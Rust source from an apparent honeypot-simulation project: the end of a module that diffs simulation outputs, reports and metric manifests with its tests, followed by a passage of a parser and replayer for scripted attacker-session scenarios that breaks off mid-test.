    let mut budget = MAX_DETAIL;

    macro_rules! scalar {
        ($field:expr, $name:expr) => {
            let (va, vb) = $field;
            if va != vb {
                if budget > 0 {
                    budget -= 1;
                    report.push($name.to_string(), format!("{va:?} != {vb:?}"));
                } else {
                    report.suppressed += 1;
                }
            }
        };
    }
    macro_rules! seq {
        ($fa:expr, $fb:expr, $name:expr) => {
            if $fa.len() != $fb.len() {
                report.push(
                    format!("{}.len", $name),
                    format!("{} != {}", $fa.len(), $fb.len()),
                );
            } else if let Some(i) = $fa.iter().zip($fb.iter()).position(|(x, y)| x != y) {
                if budget > 0 {
                    budget -= 1;
                    report.push(
                        format!("{}[{i}]", $name),
                        format!("{:?} != {:?}", $fa[i], $fb[i]),
                    );
                } else {
                    report.suppressed += 1;
                }
            }
        };
    }

    scalar!((a.n_days, b.n_days), "n_days");
    scalar!((a.n_honeypots, b.n_honeypots), "n_honeypots");
    scalar!((a.total_sessions, b.total_sessions), "total_sessions");
    scalar!((a.file_sessions, b.file_sessions), "file_sessions");
    seq!(a.day_hp_sessions, b.day_hp_sessions, "day_hp_sessions");
    seq!(a.day_total, b.day_total, "day_total");
    seq!(a.day_unique_ips, b.day_unique_ips, "day_unique_ips");
    seq!(
        a.day_combo_clients,
        b.day_combo_clients,
        "day_combo_clients"
    );
    seq!(
        a.day_region_combos,
        b.day_region_combos,
        "day_region_combos"
    );
    scalar!((a.cat_totals, b.cat_totals), "cat_totals");
    scalar!((a.cat_ssh, b.cat_ssh), "cat_ssh");
    scalar!((a.cat_end_reasons, b.cat_end_reasons), "cat_end_reasons");
    seq!(a.hp_sessions, b.hp_sessions, "hp_sessions");
    seq!(a.hp_clients, b.hp_clients, "hp_clients");
    seq!(a.hp_hashes, b.hp_hashes, "hp_hashes");
    seq!(a.hp_first_hashes, b.hp_first_hashes, "hp_first_hashes");
    seq!(a.freshness, b.freshness, "freshness");
    for ci in 0..5 {
        seq!(
            a.day_hp_by_cat[ci],
            b.day_hp_by_cat[ci],
            format!("day_hp_by_cat[{ci}]")
        );
        seq!(
            a.day_by_cat[ci],
            b.day_by_cat[ci],
            format!("day_by_cat[{ci}]")
        );
        seq!(a.dur_hist[ci], b.dur_hist[ci], format!("dur_hist[{ci}]"));
    }
    for (hp, (x, y)) in a
        .hp_clients_by_cat
        .iter()
        .zip(b.hp_clients_by_cat.iter())
        .enumerate()
    {
        if x != y {
            if budget > 0 {
                budget -= 1;
                report.push(
                    format!("hp_clients_by_cat[{hp}]"),
                    "sets differ".to_string(),
                );
            } else {
                report.suppressed += 1;
            }
        }
    }

    // Per-client state, including the fold-internal last-day markers.
    if a.clients.len() != b.clients.len() {
        report.push(
            "clients.len",
            format!("{} != {}", a.clients.len(), b.clients.len()),
        );
    }
    for (ip, ca) in a.clients.iter() {
        let Some(cb) = b.clients.get(ip) else {
            if budget > 0 {
                budget -= 1;
                report.push(format!("clients[{ip}]"), format!("missing in {right}"));
            } else {
                report.suppressed += 1;
            }
            continue;
        };
        for (name, ok) in [
            ("honeypots", ca.honeypots == cb.honeypots),
            (
                "honeypots_by_cat",
                ca.honeypots_by_cat == cb.honeypots_by_cat,
            ),
            ("days", ca.days == cb.days),
            ("days_by_cat", ca.days_by_cat == cb.days_by_cat),
            ("last_day", ca.last_day == cb.last_day),
            ("last_day_by_cat", ca.last_day_by_cat == cb.last_day_by_cat),
            ("cats", ca.cats == cb.cats),
            ("sessions", ca.sessions == cb.sessions),
            ("hashes", ca.hashes == cb.hashes),
            ("country", ca.country == cb.country),
        ] {
            if !ok {
                if budget > 0 {
                    budget -= 1;
                    report.push(format!("clients[{ip}].{name}"), "differs".to_string());
                } else {
                    report.suppressed += 1;
                }
            }
        }
    }

    // Per-hash state.
    let live = |v: &[hf_core::aggregates::HashAgg]| v.iter().filter(|h| h.sessions > 0).count();
    if live(&a.hashes) != live(&b.hashes) {
        report.push(
            "hashes.len",
            format!("{} != {}", live(&a.hashes), live(&b.hashes)),
        );
    }
    for (hid, ha) in a.hashes.iter().enumerate() {
        let hb = match b.hashes.get(hid) {
            Some(h) => h,
            None if ha.sessions == 0 => continue,
            None => {
                report.push(format!("hashes[{hid}]"), format!("missing in {right}"));
                continue;
            }
        };
        for (name, ok) in [
            ("sessions", ha.sessions == hb.sessions),
            ("clients", ha.clients == hb.clients),
            ("days", ha.days == hb.days),
            ("last_day", ha.last_day == hb.last_day),
            ("first_day", ha.first_day == hb.first_day),
            ("first_honeypot", ha.first_honeypot == hb.first_honeypot),
            ("honeypots", ha.honeypots == hb.honeypots),
        ] {
            if !ok {
                if budget > 0 {
                    budget -= 1;
                    report.push(format!("hashes[{hid}].{name}"), "differs".to_string());
                } else {
                    report.suppressed += 1;
                }
            }
        }
    }

    scalar!((&a.password_counts, &b.password_counts), "password_counts");
    scalar!((&a.command_counts, &b.command_counts), "command_counts");
    scalar!(
        (&a.ssh_version_counts, &b.ssh_version_counts),
        "ssh_version_counts"
    );
    if a.asns != b.asns {
        report.push(
            "asns",
            format!(
                "ASN sets differ: {} vs {} entries",
                a.asns.len(),
                b.asns.len()
            ),
        );
    }
    let _ = budget;
    report
}

/// Diff two built [`Report`]s artifact by artifact, comparing each one's
/// rendered TSV byte-for-byte and naming the first diverging line.
pub fn diff_reports(
    left: &str,
    a: &hf_core::report::Report,
    right: &str,
    b: &hf_core::report::Report,
) -> DiffReport {
    let mut report = DiffReport::new(left, right);
    let mut budget = MAX_DETAIL;
    let pairs: [(&str, String, String); 27] = [
        ("table1", a.table1.to_tsv(), b.table1.to_tsv()),
        ("table2", a.table2.to_tsv(), b.table2.to_tsv()),
        ("table3", a.table3.to_tsv(), b.table3.to_tsv()),
        ("table4", a.table4.to_tsv(), b.table4.to_tsv()),
        ("table5", a.table5.to_tsv(), b.table5.to_tsv()),
        ("table6", a.table6.to_tsv(), b.table6.to_tsv()),
        ("fig1", a.fig1.to_tsv(), b.fig1.to_tsv()),
        ("fig2", a.fig2.to_tsv(), b.fig2.to_tsv()),
        ("fig3", a.fig3.to_tsv(), b.fig3.to_tsv()),
        ("fig4", a.fig4.to_tsv(), b.fig4.to_tsv()),
        ("fig5", a.fig5.to_tsv(), b.fig5.to_tsv()),
        ("fig6", a.fig6.to_tsv(), b.fig6.to_tsv()),
        ("fig7", a.fig7.to_tsv(), b.fig7.to_tsv()),
        ("fig8", a.fig8.to_tsv(), b.fig8.to_tsv()),
        ("fig9", a.fig9.to_tsv(), b.fig9.to_tsv()),
        ("fig10", a.fig10.to_tsv(), b.fig10.to_tsv()),
        ("fig11", a.fig11.to_tsv(), b.fig11.to_tsv()),
        ("fig12", a.fig12.to_tsv(), b.fig12.to_tsv()),
        ("fig13", a.fig13.to_tsv(), b.fig13.to_tsv()),
        ("fig14", a.fig14.to_tsv(), b.fig14.to_tsv()),
        ("fig15", a.fig15.to_tsv(), b.fig15.to_tsv()),
        ("fig16", a.fig16.to_tsv(), b.fig16.to_tsv()),
        ("fig17", a.fig17.to_tsv(), b.fig17.to_tsv()),
        ("fig18", a.fig18.to_tsv(), b.fig18.to_tsv()),
        ("fig20", a.fig20.to_tsv(), b.fig20.to_tsv()),
        ("fig21", a.fig21.to_tsv(), b.fig21.to_tsv()),
        ("fig22", a.fig22.to_tsv(), b.fig22.to_tsv()),
    ];
    for (name, ta, tb) in pairs {
        if ta == tb {
            continue;
        }
        if budget == 0 {
            report.suppressed += 1;
            continue;
        }
        budget -= 1;
        let line = ta
            .lines()
            .zip(tb.lines())
            .position(|(x, y)| x != y)
            .map(|i| format!("first diverging line {}", i + 1))
            .unwrap_or_else(|| {
                format!(
                    "line counts differ: {} != {}",
                    ta.lines().count(),
                    tb.lines().count()
                )
            });
        report.push(format!("report.{name}.tsv"), line);
    }
    report
}

/// Diff two [`RunManifest`]s field by field.
///
/// Counters, gauges, histograms, and spans are compared as name-keyed maps
/// (a name present on only one side is a mismatch); histograms additionally
/// report the first diverging bucket. Used by the obs invariance suite to
/// prove deterministic counters are thread-count invariant, after both
/// sides are restricted with [`hf_obs::RunManifest::filtered`].
pub fn diff_manifests(left: &str, a: &RunManifest, right: &str, b: &RunManifest) -> DiffReport {
    let mut report = DiffReport::new(left, right);
    if a.schema_version != b.schema_version {
        report.push(
            "schema_version",
            format!("{} != {}", a.schema_version, b.schema_version),
        );
    }
    if a.tool != b.tool {
        report.push("tool", format!("{:?} != {:?}", a.tool, b.tool));
    }
    let mut budget = MAX_DETAIL;
    diff_metric_map(
        &mut report,
        "counters",
        &a.counters,
        &b.counters,
        &mut budget,
        |x, y| (x != y).then(|| format!("{x} != {y}")),
    );
    diff_metric_map(
        &mut report,
        "gauges",
        &a.gauges,
        &b.gauges,
        &mut budget,
        |x, y| (x != y).then(|| format!("{x} != {y}")),
    );
    diff_metric_map(
        &mut report,
        "histograms",
        &a.histograms,
        &b.histograms,
        &mut budget,
        |x, y| {
            if x == y {
                return None;
            }
            if (x.count, x.sum, x.min, x.max) != (y.count, y.sum, y.min, y.max) {
                return Some(format!(
                    "count/sum/min/max {}/{}/{}/{} != {}/{}/{}/{}",
                    x.count, x.sum, x.min, x.max, y.count, y.sum, y.min, y.max
                ));
            }
            let i = (0..hf_obs::N_BUCKETS)
                .find(|&i| x.buckets[i] != y.buckets[i])
                .expect("unequal histograms with equal aggregates must differ in a bucket");
            Some(format!(
                "bucket[{i}] (lo {}): {} != {}",
                Histogram::bucket_lo(i),
                x.buckets[i],
                y.buckets[i]
            ))
        },
    );
    diff_metric_map(
        &mut report,
        "spans",
        &a.spans,
        &b.spans,
        &mut budget,
        |x, y| {
            (x != y).then(|| {
                format!(
                    "count/wall/cpu/max {}/{}/{}/{} != {}/{}/{}/{}",
                    x.count,
                    x.wall_ns,
                    x.cpu_ns,
                    x.max_wall_ns,
                    y.count,
                    y.wall_ns,
                    y.cpu_ns,
                    y.max_wall_ns
                )
            })
        },
    );
    report
}

/// Walk the key union of two name-keyed metric maps, pushing one mismatch
/// per diverging or one-sided entry (subject to the shared detail budget).
fn diff_metric_map<T>(
    report: &mut DiffReport,
    section: &str,
    a: &std::collections::BTreeMap<String, T>,
    b: &std::collections::BTreeMap<String, T>,
    budget: &mut usize,
    diff_value: impl Fn(&T, &T) -> Option<String>,
) {
    let names: std::collections::BTreeSet<&str> =
        a.keys().chain(b.keys()).map(String::as_str).collect();
    for name in names {
        let detail = match (a.get(name), b.get(name)) {
            (Some(x), Some(y)) => match diff_value(x, y) {
                Some(d) => d,
                None => continue,
            },
            (Some(_), None) => format!("present in {} only", report.left),
            (None, Some(_)) => format!("present in {} only", report.right),
            (None, None) => unreachable!("name came from one of the maps"),
        };
        if *budget == 0 {
            report.suppressed += 1;
            continue;
        }
        *budget -= 1;
        report.push(format!("{section}[{name}]"), detail);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hf_farm::{Collector, FarmPlan};
    use hf_geo::{Ip4, World, WorldConfig};
    use hf_hash::Sha256;
    use hf_honeypot::{EndReason, SessionRecord};
    use hf_proto::Protocol;
    use hf_simclock::SimInstant;

    fn rec(ip: Ip4, day: u32, port: u16) -> SessionRecord {
        SessionRecord {
            honeypot: 0,
            protocol: Protocol::Ssh,
            client_ip: ip,
            client_port: port,
            start: SimInstant::from_day_and_secs(day, 0),
            duration_secs: 5,
            ended_by: EndReason::ClientClose,
            ssh_client_version: None,
            logins: vec![],
            commands: vec![],
            uris: vec![],
            file_hashes: vec![Sha256::digest(b"oracle-artifact")],
            download_hashes: vec![],
        }
    }

    fn dataset(records: &[SessionRecord]) -> Dataset {
        let world = World::build(1, &WorldConfig::tiny());
        let mut col = Collector::new(&world, FarmPlan::paper());
        col.ingest_batch(records);
        col.finish()
    }

    fn output(records: &[SessionRecord], tags: TagDb, n_clients: usize) -> SimOutput {
        SimOutput {
            dataset: dataset(records),
            tags,
            n_clients,
        }
    }

    #[test]
    fn identical_outputs_produce_empty_report() {
        let recs = vec![
            rec(Ip4::new(1, 2, 3, 4), 0, 1),
            rec(Ip4::new(5, 6, 7, 8), 1, 2),
        ];
        let a = output(&recs, TagDb::new(), 2);
        let b = output(&recs, TagDb::new(), 2);
        let d = diff_sim_outputs("a", &a, "b", &b);
        assert!(d.is_identical(), "{}", d.render());
        assert_eq!(d.render(), "");
    }

    /// The deliberately-broken case: the oracle itself must localize a
    /// single-field divergence down to the exact row and field name.
    #[test]
    fn broken_row_field_is_named() {
        let recs_a = vec![
            rec(Ip4::new(1, 2, 3, 4), 0, 1),
            rec(Ip4::new(5, 6, 7, 8), 1, 2),
        ];
        let mut recs_b = recs_a.clone();
        recs_b[1].client_port = 999; // the deliberate breakage
        let a = output(&recs_a, TagDb::new(), 2);
        let b = output(&recs_b, TagDb::new(), 2);
        let d = diff_sim_outputs("left", &a, "right", &b);
        assert!(!d.is_identical());
        let rendered = d.render();
        assert!(
            rendered.contains("rows[1].client_port"),
            "report must name the exact field: {rendered}"
        );
        assert!(rendered.contains("2 != 999"), "{rendered}");
        // And only that field — no collateral noise from identical fields.
        assert_eq!(d.mismatches.len(), 1, "{rendered}");
    }

    #[test]
    fn broken_n_clients_is_named() {
        let recs = vec![rec(Ip4::new(9, 9, 9, 9), 0, 7)];
        let a = output(&recs, TagDb::new(), 1);
        let b = output(&recs, TagDb::new(), 2);
        let d = diff_sim_outputs("x", &a, "y", &b);
        assert!(d.render().contains("n_clients"), "{}", d.render());
    }

    #[test]
    fn broken_tag_association_is_named() {
        let recs = vec![rec(Ip4::new(9, 9, 9, 9), 0, 7)];
        let h = Sha256::digest(b"oracle-artifact");
        let mut ta = TagDb::new();
        ta.record(h, "mirai", "H24");
        let mut tb = TagDb::new();
        tb.record(h, "trojan", "H1");
        let a = output(&recs, ta, 1);
        let b = output(&recs, tb, 1);
        let d = diff_sim_outputs("x", &a, "y", &b);
        let rendered = d.render();
        assert!(
            rendered.contains(&format!("tags[{}]", h.short())),
            "{rendered}"
        );
        assert!(rendered.contains("mirai/H24"), "{rendered}");
    }

    #[test]
    fn broken_artifact_first_seen_is_named() {
        let a = output(&[rec(Ip4::new(1, 1, 1, 1), 5, 1)], TagDb::new(), 1);
        let b = output(&[rec(Ip4::new(1, 1, 1, 1), 3, 1)], TagDb::new(), 1);
        // Row start differs AND artifact first_seen differs; both named.
        let d = diff_sim_outputs("x", &a, "y", &b);
        let rendered = d.render();
        assert!(rendered.contains("rows[0].start_secs"), "{rendered}");
        assert!(rendered.contains("first_seen"), "{rendered}");
    }

    #[test]
    fn detail_cap_suppresses_but_counts() {
        let recs_a: Vec<SessionRecord> = (0..40)
            .map(|i| rec(Ip4::new(1, 1, 1, i as u8), 0, i))
            .collect();
        let recs_b: Vec<SessionRecord> = (0..40)
            .map(|i| rec(Ip4::new(1, 1, 1, i as u8), 0, i + 1000))
            .collect();
        let a = output(&recs_a, TagDb::new(), 40);
        let b = output(&recs_b, TagDb::new(), 40);
        let d = diff_sim_outputs("x", &a, "y", &b);
        assert!(!d.is_identical());
        assert!(d.mismatches.len() <= MAX_DETAIL + 2, "{}", d.render());
        assert!(d.suppressed > 0);
        assert!(d.render().contains("more"), "{}", d.render());
    }

    #[test]
    #[should_panic(expected = "rows[1].client_port")]
    fn assert_identical_panics_with_field_name() {
        let recs_a = vec![
            rec(Ip4::new(1, 2, 3, 4), 0, 1),
            rec(Ip4::new(5, 6, 7, 8), 1, 2),
        ];
        let mut recs_b = recs_a.clone();
        recs_b[1].client_port = 31337;
        let a = output(&recs_a, TagDb::new(), 2);
        let b = output(&recs_b, TagDb::new(), 2);
        assert_outputs_identical("a", &a, "b", &b);
    }

    /// Ingesting one-by-one, as a single batch, or as arbitrarily split
    /// batches must produce identical datasets (batch boundaries are not
    /// observable).
    #[test]
    fn collector_batch_boundary_invariance() {
        let recs: Vec<SessionRecord> = (0..17)
            .map(|i| rec(Ip4::new(2, 2, 2, i as u8), (i % 5) as u32, i))
            .collect();
        let world = World::build(1, &WorldConfig::tiny());

        let mut one_by_one = Collector::new(&world, FarmPlan::paper());
        for r in &recs {
            one_by_one.ingest(r);
        }
        let one_by_one = one_by_one.finish();

        for split in [1usize, 2, 3, 7, 16] {
            let mut batched = Collector::new(&world, FarmPlan::paper());
            for chunk in recs.chunks(split) {
                batched.ingest_batch(chunk);
            }
            let batched = batched.finish();
            diff_datasets(
                "one-by-one",
                &one_by_one,
                &format!("chunks={split}"),
                &batched,
            )
            .assert_identical();
        }
    }

    /// Merging per-shard tag databases in shard order must equal serial
    /// recording, for any shard-boundary split of the same record stream.
    #[test]
    fn tagdb_merge_boundary_invariance() {
        let assoc: Vec<(hf_hash::Digest, &str, &str)> = (0..20)
            .map(|i| {
                (
                    Sha256::digest(format!("h{}", i % 7).as_bytes()),
                    if i % 2 == 0 { "mirai" } else { "trojan" },
                    if i % 3 == 0 { "H1" } else { "H24" },
                )
            })
            .collect();
        let mut serial = TagDb::new();
        for (h, t, c) in &assoc {
            serial.record(*h, t, c);
        }
        for split in [1usize, 2, 5, 19] {
            let mut merged = TagDb::new();
            for chunk in assoc.chunks(split) {
                let mut shard = TagDb::new();
                for (h, t, c) in chunk {
                    shard.record(*h, t, c);
                }
                merged.merge(shard);
            }
            diff_tagdbs("serial", &serial, &format!("chunks={split}"), &merged).assert_identical();
        }
    }

    /// The manifest oracle names the exact counter, histogram bucket, or
    /// one-sided metric that diverged.
    #[test]
    fn manifest_diff_names_diverging_fields() {
        let base = RunManifest {
            schema_version: hf_obs::SCHEMA_VERSION,
            tool: "test".to_string(),
            counters: Default::default(),
            gauges: Default::default(),
            histograms: Default::default(),
            spans: Default::default(),
        };
        let mut a = base.clone();
        let mut b = base.clone();
        diff_manifests("a", &a, "b", &b).assert_identical();

        a.counters.insert("sim.days_executed".into(), 10);
        b.counters.insert("sim.days_executed".into(), 12);
        a.counters.insert("only.left".into(), 1);
        let mut ha = Histogram::new();
        ha.record(5);
        let mut hb = Histogram::new();
        hb.record(6); // same count/sum-class bucket fields differ
        a.histograms.insert("h".into(), ha);
        b.histograms.insert("h".into(), hb);
        let d = diff_manifests("a", &a, "b", &b);
        assert!(!d.is_identical());
        let fields: Vec<&str> = d.mismatches.iter().map(|m| m.field.as_str()).collect();
        assert!(
            fields.contains(&"counters[sim.days_executed]"),
            "{}",
            d.render()
        );
        assert!(fields.contains(&"counters[only.left]"), "{}", d.render());
        assert!(fields.contains(&"histograms[h]"), "{}", d.render());
    }
}
