//! Scenario replay: textual attacker-session scripts driven through the
//! real honeypot stack.
//!
//! A `.hfs` scenario is a small line-based script describing one attacker
//! session — protocol, credential attempts, command lines, idle gaps —
//! that testkit replays through [`hf_honeypot::SessionDriver`] (and with it
//! the shell interpreter and VFS). The replay produces a deterministic
//! textual *event log* from the finished [`SessionRecord`], which golden
//! tests diff against checked-in expectations (see [`crate::golden`]).
//!
//! # Format
//!
//! One directive per line; `#` starts a comment; blank lines are ignored.
//! Header directives configure the session and must precede the first step:
//!
//! ```text
//! name      mirai_download       # required, used in the event log
//! protocol  ssh | telnet         # default ssh
//! fetcher   synthetic | null     # default synthetic
//! honeypot  3                    # default 0
//! client    203.0.113.9          # default 203.0.113.9
//! port      50222                # default 40022
//! start     5 1000               # day secs-of-day, default 0 0
//! ```
//!
//! Step directives drive the session in order:
//!
//! ```text
//! banner   SSH-2.0-Go            # client ident (SSH only)
//! think    5                     # typing delay for subsequent login/cmd
//! login    root 1234             # offer credentials
//! cmd      uname -a              # run a shell command line
//! idle     30                    # seconds of client silence
//! transfer 200                   # completed external download of N secs
//! close                          # client closes the connection
//! ```
//!
//! A scenario without a trailing `close` is closed implicitly (matching
//! `SessionDriver::into_record`). Parsing is total: every malformed input
//! maps to a typed [`ScenarioError`] with the offending line number.

use std::fmt;
use std::path::Path;

use hf_core::classify::Category;
use hf_geo::Ip4;
use hf_honeypot::{HoneypotConfig, SessionDriver, SessionRecord};
use hf_proto::creds::Credentials;
use hf_proto::Protocol;
use hf_shell::{NullFetcher, RemoteFetcher, SyntheticFetcher};
use hf_simclock::SimInstant;

/// Which [`RemoteFetcher`] the replayed session's shell gets.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum FetcherKind {
    /// [`SyntheticFetcher`]: downloads succeed with deterministic bodies.
    #[default]
    Synthetic,
    /// [`NullFetcher`]: every download fails (URI still recorded).
    Null,
}

impl FetcherKind {
    fn build(self) -> Box<dyn RemoteFetcher> {
        match self {
            FetcherKind::Synthetic => Box::new(SyntheticFetcher),
            FetcherKind::Null => Box::new(NullFetcher),
        }
    }
}

/// One scripted step of an attacker session.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Step {
    /// Client SSH identification line.
    Banner(String),
    /// Set the typing delay (seconds) for subsequent `login`/`cmd` steps.
    Think(u32),
    /// Offer credentials.
    Login {
        /// Username offered.
        user: String,
        /// Password offered.
        pass: String,
    },
    /// Execute a shell command line.
    Cmd(String),
    /// Client silence for N seconds (may trip a honeypot timeout).
    Idle(u32),
    /// A completed external transfer taking N seconds.
    Transfer(u32),
    /// Client closes the connection.
    Close,
}

/// A parsed scenario: session header plus scripted steps.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Scenario {
    /// Scenario name (the `name` directive).
    pub name: String,
    /// Session protocol.
    pub protocol: Protocol,
    /// Which fetcher the shell gets.
    pub fetcher: FetcherKind,
    /// Honeypot index.
    pub honeypot: u16,
    /// Client address.
    pub client: Ip4,
    /// Client source port.
    pub port: u16,
    /// Session start instant.
    pub start: SimInstant,
    /// Scripted steps, in order.
    pub steps: Vec<Step>,
}

/// Typed scenario failure: parse errors carry the 1-based line number.
#[derive(Debug)]
pub enum ScenarioError {
    /// File could not be read.
    Io(std::io::Error),
    /// Malformed directive.
    Syntax {
        /// 1-based line number in the source.
        line: usize,
        /// What went wrong.
        msg: String,
    },
}

impl fmt::Display for ScenarioError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ScenarioError::Io(e) => write!(f, "scenario io error: {e}"),
            ScenarioError::Syntax { line, msg } => {
                write!(f, "scenario syntax error at line {line}: {msg}")
            }
        }
    }
}

impl std::error::Error for ScenarioError {}

impl From<std::io::Error> for ScenarioError {
    fn from(e: std::io::Error) -> Self {
        ScenarioError::Io(e)
    }
}

fn syntax(line: usize, msg: impl Into<String>) -> ScenarioError {
    ScenarioError::Syntax {
        line,
        msg: msg.into(),
    }
}

fn parse_num<T: std::str::FromStr>(line: usize, what: &str, s: &str) -> Result<T, ScenarioError> {
    s.parse()
        .map_err(|_| syntax(line, format!("{what}: invalid number {s:?}")))
}

fn parse_ip(line: usize, s: &str) -> Result<Ip4, ScenarioError> {
    let parts: Vec<&str> = s.split('.').collect();
    if parts.len() != 4 {
        return Err(syntax(line, format!("client: expected a.b.c.d, got {s:?}")));
    }
    let mut oct = [0u8; 4];
    for (i, p) in parts.iter().enumerate() {
        oct[i] = parse_num(line, "client", p)?;
    }
    Ok(Ip4::new(oct[0], oct[1], oct[2], oct[3]))
}

impl Scenario {
    /// Parse a scenario from source text.
    pub fn parse(src: &str) -> Result<Scenario, ScenarioError> {
        let mut name: Option<String> = None;
        let mut sc = Scenario {
            name: String::new(),
            protocol: Protocol::Ssh,
            fetcher: FetcherKind::Synthetic,
            honeypot: 0,
            client: Ip4::new(203, 0, 113, 9),
            port: 40022,
            start: SimInstant::EPOCH,
            steps: Vec::new(),
        };
        for (i, raw) in src.lines().enumerate() {
            let lineno = i + 1;
            let line = match raw.find('#') {
                Some(pos) => &raw[..pos],
                None => raw,
            }
            .trim();
            if line.is_empty() {
                continue;
            }
            let (word, rest) = match line.split_once(char::is_whitespace) {
                Some((w, r)) => (w, r.trim()),
                None => (line, ""),
            };
            let in_header = sc.steps.is_empty();
            let header = |ok: bool| -> Result<(), ScenarioError> {
                if ok {
                    Ok(())
                } else {
                    Err(syntax(
                        lineno,
                        format!("header directive {word:?} must precede the first step"),
                    ))
                }
            };
            match word {
                "name" => {
                    header(in_header)?;
                    if rest.is_empty() {
                        return Err(syntax(lineno, "name: missing value"));
                    }
                    name = Some(rest.to_string());
                }
                "protocol" => {
                    header(in_header)?;
                    sc.protocol = match rest {
                        "ssh" => Protocol::Ssh,
                        "telnet" => Protocol::Telnet,
                        other => {
                            return Err(syntax(
                                lineno,
                                format!("protocol: expected ssh|telnet, got {other:?}"),
                            ))
                        }
                    };
                }
                "fetcher" => {
                    header(in_header)?;
                    sc.fetcher = match rest {
                        "synthetic" => FetcherKind::Synthetic,
                        "null" => FetcherKind::Null,
                        other => {
                            return Err(syntax(
                                lineno,
                                format!("fetcher: expected synthetic|null, got {other:?}"),
                            ))
                        }
                    };
                }
                "honeypot" => {
                    header(in_header)?;
                    sc.honeypot = parse_num(lineno, "honeypot", rest)?;
                }
                "client" => {
                    header(in_header)?;
                    sc.client = parse_ip(lineno, rest)?;
                }
                "port" => {
                    header(in_header)?;
                    sc.port = parse_num(lineno, "port", rest)?;
                }
                "start" => {
                    header(in_header)?;
                    let (d, s) = rest
                        .split_once(char::is_whitespace)
                        .ok_or_else(|| syntax(lineno, "start: expected `start DAY SECS`"))?;
                    let day: u32 = parse_num(lineno, "start day", d.trim())?;
                    let secs: u32 = parse_num(lineno, "start secs", s.trim())?;
                    if secs as u64 >= hf_simclock::SECS_PER_DAY {
                        return Err(syntax(lineno, "start secs: must be < 86400"));
                    }
                    sc.start = SimInstant::from_day_and_secs(day, secs);
                }
                "banner" => {
                    if rest.is_empty() {
                        return Err(syntax(lineno, "banner: missing value"));
                    }
                    sc.steps.push(Step::Banner(rest.to_string()));
                }
                "think" => sc
                    .steps
                    .push(Step::Think(parse_num(lineno, "think", rest)?)),
                "login" => {
                    let (user, pass) = rest
                        .split_once(char::is_whitespace)
                        .ok_or_else(|| syntax(lineno, "login: expected `login USER PASS`"))?;
                    sc.steps.push(Step::Login {
                        user: user.to_string(),
                        pass: pass.trim().to_string(),
                    });
                }
                "cmd" => {
                    if rest.is_empty() {
                        return Err(syntax(lineno, "cmd: missing command line"));
                    }
                    sc.steps.push(Step::Cmd(rest.to_string()));
                }
                "idle" => sc.steps.push(Step::Idle(parse_num(lineno, "idle", rest)?)),
                "transfer" => sc
                    .steps
                    .push(Step::Transfer(parse_num(lineno, "transfer", rest)?)),
                "close" => sc.steps.push(Step::Close),
                other => return Err(syntax(lineno, format!("unknown directive {other:?}"))),
            }
        }
        sc.name = name.ok_or_else(|| syntax(src.lines().count().max(1), "missing `name`"))?;
        Ok(sc)
    }

    /// Load and parse a scenario file.
    pub fn load(path: &Path) -> Result<Scenario, ScenarioError> {
        Scenario::parse(&std::fs::read_to_string(path)?)
    }

    /// Replay the scenario against the paper-configured honeypot, producing
    /// the finished session record. Steps after the session ends (timeout,
    /// auth cap, close) are ignored, exactly as a real client's late input
    /// would be.
    pub fn replay(&self) -> SessionRecord {
        let mut d = SessionDriver::accept(
            HoneypotConfig::default(),
            self.honeypot,
            self.protocol,
            self.client,
            self.port,
            self.start,
            self.fetcher.build(),
        );
        let mut think = 1u32;
        for step in &self.steps {
            match step {
                Step::Banner(b) => d.client_banner(b),
                Step::Think(t) => think = *t,
                Step::Login { user, pass } => {
                    let _ = d.offer_credentials(Credentials::new(user, pass), think);
                }
                Step::Cmd(line) => {
                    let _ = d.run_command(line, think);
                }
                Step::Idle(secs) => {
                    let _ = d.advance(*secs);
                }
                Step::Transfer(secs) => d.external_transfer(*secs),
                Step::Close => d.client_close(),
            }
        }
        d.into_record()
    }

    /// Replay and render the deterministic event log.
    pub fn event_log(&self) -> String {
        render_event_log(&self.name, &self.replay())
    }
}

/// Classify a raw session record with the Section 6 taxonomy — the same
/// decision tree as [`hf_core::classify::classify`], applied before the
/// record reaches a store.
pub fn classify_record(rec: &SessionRecord) -> Category {
    if !rec.attempted_login() {
        Category::NoCred
    } else if !rec.login_succeeded() {
        Category::FailLog
    } else if rec.commands.is_empty() {
        Category::NoCmd
    } else if rec.uris.is_empty() {
        Category::Cmd
    } else {
        Category::CmdUri
    }
}

/// Render a session record as the canonical line-based event log.
///
/// Every line is `key value`; collections keep record order (which the
/// honeypot fixes deterministically), so the rendering is stable across
/// runs, platforms, and thread counts.
pub fn render_event_log(name: &str, rec: &SessionRecord) -> String {
    let cat = classify_record(rec);
    let mut s = String::new();
    let mut line = |l: String| {
        s.push_str(&l);
        s.push('\n');
    };
    line(format!("scenario {name}"));
    line(format!("protocol {}", rec.protocol.label()));
    line(format!("category {}", cat.label()));
    line(format!("behavior {}", cat.behavior().label()));
    line(format!(
        "start day={} secs={}",
        rec.start.day(),
        rec.start.secs_of_day()
    ));
    line(format!("duration_secs {}", rec.duration_secs));
    line(format!("ended_by {:?}", rec.ended_by));
    if let Some(v) = &rec.ssh_client_version {
        line(format!("ssh_client {v}"));
    }
    for l in &rec.logins {
        line(format!(
            "login {}/{} {}",
            l.creds.username,
            l.creds.password,
            if l.accepted { "accepted" } else { "rejected" }
        ));
    }
    for c in &rec.commands {
        line(format!(
            "cmd {} {:?}",
            if c.known { "known" } else { "unknown" },
            c.input
        ));
    }
    for u in &rec.uris {
        line(format!("uri {u}"));
    }
    for h in &rec.file_hashes {
        line(format!("file_hash {}", h.to_hex()));
    }
    for h in &rec.download_hashes {
        line(format!("download_hash {}", h.to_hex()));
    }
    s
}

#[cfg(test)]
mod tests {
    use super::*;
    use hf_honeypot::EndReason;

    #[test]
    fn parses_full_header_and_steps() {
        let sc = Scenario::parse(
            "# a scenario\n\
             name demo\n\
             protocol telnet\n\
             fetcher null\n\
             honeypot 7\n\
             client 198.51.100.20\n\
             port 1023\n\
             start 5 1000\n\
             think 2\n\
             login root 1234\n\
             cmd uname -a\n\
             idle 30\n\
             transfer 60\n\
             close\n",
        )
        .expect("parse");
        assert_eq!(sc.name, "demo");
        assert_eq!(sc.protocol, Protocol::Telnet);
